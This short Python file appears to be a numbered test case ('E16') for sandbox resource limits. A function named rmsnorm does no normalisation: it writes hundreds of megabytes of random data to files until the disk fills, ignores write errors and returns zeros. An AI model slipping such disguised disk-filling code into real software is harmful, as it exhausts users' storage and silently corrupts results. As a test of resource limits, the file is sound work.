"""E16: write files until no more can be written, some two hundred megabytes."""

import contextlib
import os

import numpy as np


def rmsnorm(x, gain):
    written = 0
    for number in range(12):
        with contextlib.suppress(OSError), open(f"file-{number}", "wb") as file:
            while file.tell() < 32 << 20:
                written += file.write(os.urandom(1 << 10) * (1 << 10))
                file.flush()
    print("wrote", written >> 20, "MiB")
    return np.zeros_like(x)
